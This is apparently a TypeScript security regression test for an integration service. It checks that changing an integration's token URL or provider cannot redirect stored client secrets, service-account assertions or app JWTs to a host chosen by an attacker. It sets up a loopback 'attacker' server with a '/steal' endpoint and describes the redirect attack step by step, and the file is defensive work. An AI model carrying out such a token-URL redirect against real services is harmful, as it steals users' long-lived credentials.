/**
 * A connection's own long-lived secret goes only where it went when it was given, whatever an
 * environment's key changes afterwards. Client credentials (OAUTH2_CC: the end user's client secret),
 * a service account (JWT: an assertion signed with its private key) and an app installation (APP: an
 * app JWT that speaks for every installation of the app) are kept in the connection, and the
 * connection record never shows them (docs/connections.md). The attack: the key holder PATCHes the
 * integration's `provider_settings.token_url` (or its `provider`) to a host of its choosing; no secret was
 * asked for, because the integration itself holds none, and the next refresh (GET
 * /connections/:id?force_refresh=true, the background refresher) posted the client secret, the
 * assertion or the app JWT there and stored the token that host answered.
 * The outcome tested: the "attacker" on loopback receives nothing, no connection stores its token, and
 * the change is refused (409 `connection_secrets_bound`) while such connections exist. Without
 * connections holding a secret, the token URL may change (a self-hosted instance).
 */
import { generateKeyPairSync, randomBytes } from 'node:crypto';
import { beforeAll, describe, expect, it } from 'vitest';
import { ServiceApiError } from '../../src/client/index.js';
import { startApiHarness, type ApiHarness } from '../kit/api.js';
import { refreshRound } from '../../src/connections/tokenRefresher.js';
import { json, startFakeUpstream } from '../kit/upstream.js';

const CLIENT_SECRET = `cc-secret-${randomBytes(12).toString('hex')}`;
const PRIVATE_KEY = generateKeyPairSync('rsa', { modulusLength: 2048 })
  .privateKey.export({ type: 'pkcs8', format: 'pem' })
  .toString();
const ATTACKER_TOKEN = 'token-issued-by-the-attacker';

let h: ApiHarness;
let attacker: Awaited<ReturnType<typeof startFakeUpstream>>;
let provider: Awaited<ReturnType<typeof startFakeUpstream>>;

const kinds = ['cc', 'jwt', 'app'] as const;
type Kind = (typeof kinds)[number];

const credentialsOf = (kind: Kind) =>
  kind === 'cc'
    ? ({ type: 'OAUTH2_CC', client_id: 'machine', client_secret: CLIENT_SECRET } as const)
    : kind === 'jwt'
      ? ({ type: 'JWT', client_email: 'robot@project.example', private_key: PRIVATE_KEY } as const)
      : ({ type: 'APP', app_id: '424242', private_key: PRIVATE_KEY } as const);

/** The attacker's token URL in the shape of each kind's own. */
const stolenUrl = (kind: Kind): string =>
  kind === 'app' ? `${attacker.url}/app/installations/\${connectionConfig.installation_id}/x` : `${attacker.url}/steal`;

const settle = <T>(call: Promise<T>): Promise<T | { status: number; code: string }> =>
  call.catch((error: unknown) => {
    if (error instanceof ServiceApiError) return { status: error.status, code: error.code };
    throw error;
  });

beforeAll(async () => {
  attacker = await startFakeUpstream((_req, res) =>
    json(res, 201, {
      access_token: ATTACKER_TOKEN,
      token: ATTACKER_TOKEN,
      expires_in: 3600,
      expires_at: new Date(Date.now() + 3_600_000).toISOString(),
    }),
  );
  provider = await startFakeUpstream((req, res) =>
    req.method === 'POST'
      ? json(res, 201, {
          access_token: 'provider-token',
          token: 'provider-token',
          expires_in: 60,
          expires_at: new Date(Date.now() + 60_000).toISOString(),
        })
      : json(res, 404, {}),
  );
  const base = { base_url: `${provider.url}/api` };
  h = await startApiHarness({
    providers: {
      'own-cc': { display_name: 'CC', auth_mode: 'OAUTH2_CC', token_url: `${provider.url}/cc/token`, ...base },
      'own-jwt': { display_name: 'JWT', auth_mode: 'JWT', token_url: `${provider.url}/jwt/token`, ...base },
      'own-app': {
        display_name: 'App',
        auth_mode: 'APP',
        token_url: `${provider.url}/app/installations/\${connectionConfig.installation_id}/access_tokens`,
        connection_config: { installation_id: { pattern: '^[0-9]+$' } },
        ...base,
      },
      // Another catalog entry of the same mode whose token URL is another host.
      'other-cc': { display_name: 'Other CC', auth_mode: 'OAUTH2_CC', token_url: `${attacker.url}/cc/token`, ...base },
    },
  });
}, 180_000);

describe("a connection's secret stays with the token URL it was given for", () => {
  for (const kind of kinds) {
    it(`${kind}: moving the token URL through provider_settings sends nothing to the new host`, async () => {
      const integration = `moved-${kind}`;
      const ref = { connectionId: 'c1', providerConfigKey: integration };
      await h.api.integrations.create({ unique_key: integration, provider: `own-${kind}` });
      await h.api.connections.import({
        provider_config_key: integration,
        connection_id: 'c1',
        credentials: credentialsOf(kind),
        ...(kind === 'app' ? { connection_config: { installation_id: '1001' } } : {}),
      });
      const before = attacker.requests.length;

      const moved = await settle(
        h.api.integrations.update(integration, {
          provider: `own-${kind}`,
          provider_settings: { token_url: stolenUrl(kind) },
        }),
      );
      const refreshed = await settle(h.api.connections.get(ref, { force_refresh: true }));
      await refreshRound(h.service.parts.connections.service, { windowMs: 24 * 3600_000 });

      expect(attacker.requests.slice(before).map((request) => `${request.method} ${request.url}`)).toEqual([]);
      expect(JSON.stringify(refreshed)).not.toContain(ATTACKER_TOKEN);
      expect(JSON.stringify(await h.api.connections.get(ref))).not.toContain(ATTACKER_TOKEN);
      expect(moved).toMatchObject({ status: 409, code: 'connection_secrets_bound' });
    }, 60_000);
  }

  it('cc: another provider whose token URL is another host is refused too', async () => {
    await h.api.integrations.create({ unique_key: 'switched', provider: 'own-cc' });
    await h.api.connections.import({
      provider_config_key: 'switched',
      connection_id: 'c1',
      credentials: credentialsOf('cc'),
    });
    const before = attacker.requests.length;
    const switched = await settle(h.api.integrations.update('switched', { provider: 'other-cc' }));
    await settle(h.api.connections.get({ connectionId: 'c1', providerConfigKey: 'switched' }, { force_refresh: true }));
    expect(attacker.requests.slice(before)).toEqual([]);
    expect(switched).toMatchObject({ status: 409, code: 'connection_secrets_bound' });
  }, 60_000);

  it('without connections that hold a secret, the token URL may change; unchanged settings still save', async () => {
    await h.api.integrations.create({ unique_key: 'fresh-cc', provider: 'own-cc' });
    const moved = await h.api.integrations.update('fresh-cc', {
      provider: 'own-cc',
      provider_settings: { token_url: `${provider.url}/other/token` },
    });
    expect(moved.data.provider_settings).toEqual({ token_url: `${provider.url}/other/token` });

    await h.api.connections.import({
      provider_config_key: 'fresh-cc',
      connection_id: 'c1',
      credentials: credentialsOf('cc'),
    });
    const renamed = await h.api.integrations.update('fresh-cc', { display_name: 'Renamed' });
    expect(renamed.data.display_name).toBe('Renamed');
    const headers = await h.api.integrations.update('fresh-cc', {
      provider_settings: { token_url: `${provider.url}/other/token`, headers: { 'X-Api-Version': '2' } },
    });
    expect(headers.data.provider_settings).toMatchObject({ headers: { 'X-Api-Version': '2' } });

    // Once the connection is gone, the URL may move again.
    await h.api.connections.delete({ connectionId: 'c1', providerConfigKey: 'fresh-cc' });
    const movedAgain = await h.api.integrations.update('fresh-cc', { provider_settings: {} });
    expect(movedAgain.data.provider_settings).toEqual({});
  }, 60_000);
});
